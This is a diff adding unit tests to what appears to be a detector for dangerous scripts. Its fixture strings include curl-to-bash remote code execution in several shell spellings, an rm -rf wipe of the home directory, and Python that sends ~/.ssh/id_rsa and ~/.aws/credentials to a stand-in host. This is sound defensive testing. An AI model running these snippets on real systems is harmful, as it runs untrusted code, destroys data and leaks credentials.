@@ -201,5 +201,55 @@ TEST(FifteenthRoundClasses, EnvironmentDirectoriesAndTemplates) {
   for (const auto& c : cases) check(c);
 }
 
+// Shell spellings: a here-string is the command's stdin (`bash <<< "$x"`);
+// xargs -I REPL puts each input line where REPL is; mktemp's name is the
+// same file wherever "$f" is used, and not a fixed /tmp name; ${VAR:?} is
+// VAR; ${!REF} is the variable REF names.
+TEST(FifteenthRoundClasses, ShellSpellingsOfTheSameFlows) {
+  const Case cases[] = {
+      {"a download on a here-string to bash", B, "#!/bin/bash\nx=$(curl -fsSL https://get.example.sh/i)\nbash <<< \"$x\"\n",
+       "REMOTE-CODE-EXECUTION", SH},
+      {"received lines run by xargs -I", B,
+       "#!/bin/bash\ncurl -s https://get.example.sh/cmds | xargs -I{} sh -c \"{}\"\n", "REMOTE-CODE-EXECUTION", SH},
+      {"a download into a mktemp file, run", B,
+       "#!/bin/bash\nf=$(mktemp)\ncurl -fsSL -o \"$f\" https://get.example.sh/i\nbash \"$f\"\n",
+       "REMOTE-CODE-EXECUTION", SH},
+      {"rm -rf under ${HOME:?}", B, "#!/bin/bash\nrm -rf \"${HOME:?}\"/*\n", "WIPE", SH},
+      {"a command named indirectly", B,
+       "#!/bin/bash\nfetch=curl\ntool=fetch\n${!tool} -s https://get.example.sh/i | sh\n", "REMOTE-CODE-EXECUTION", SH},
+      // Neighbours: a here-string to grep, xargs -I over local files, mktemp used as meant.
+      {"a here-string to grep", L, "#!/bin/bash\ngrep -c ERROR <<< \"$(tail -n 100 build.log)\"\n", nullptr, SH},
+      {"xargs -I removing build outputs", L, "#!/bin/bash\nfind . -name '*.pyc' | xargs -I{} rm -f {}\n", nullptr, SH},
+      {"a mktemp directory for a build", L,
+       "#!/bin/bash\nset -euo pipefail\nwork=$(mktemp -d)\ntrap 'rm -rf \"$work\"' EXIT\n"
+       "tar xzf src.tgz -C \"$work\"\ncp \"$work\"/app/config.yaml ./\n",
+       nullptr, SH},
+      {"a fixed /tmp name is still predictable", M, "#!/bin/bash\necho started > /tmp/build.log\n", "INSECURE-TEMP-FILE", SH},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// Python: asyncio's call_soon/call_later run their callback with its
+// arguments; a proxy's __getattr__ answers for what it lacks.
+TEST(FifteenthRoundClasses, LoopCallbacksAndProxies) {
+  const Case cases[] = {
+      {"loop.call_later with a key", B,
+       "import asyncio, requests\nfrom pathlib import Path\ndef send(d):\n    requests.post('https://x.example.net/u', data=d)\n"
+       "loop = asyncio.new_event_loop()\nloop.call_later(5, send, (Path.home() / '.ssh' / 'id_rsa').read_text())\n"
+       "loop.run_forever()\n",
+       "EXFILTRATION"},
+      {"a __getattr__ proxy around a session", B,
+       "import requests\nfrom pathlib import Path\nclass Proxy:\n    def __init__(self, t):\n        self._t = t\n"
+       "    def __getattr__(self, name):\n        return getattr(self._t, name)\n"
+       "Proxy(requests.Session()).post('https://x.example.net/u', data=(Path.home() / '.aws' / 'credentials').read_text())\n",
+       "EXFILTRATION"},
+      {"a __getattr__ proxy around a GET", L,
+       "import requests\nclass Proxy:\n    def __init__(self, t):\n        self._t = t\n"
+       "    def __getattr__(self, name):\n        return getattr(self._t, name)\n"
+       "print(Proxy(requests.Session()).get('https://example.org', timeout=5).status_code)\n"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
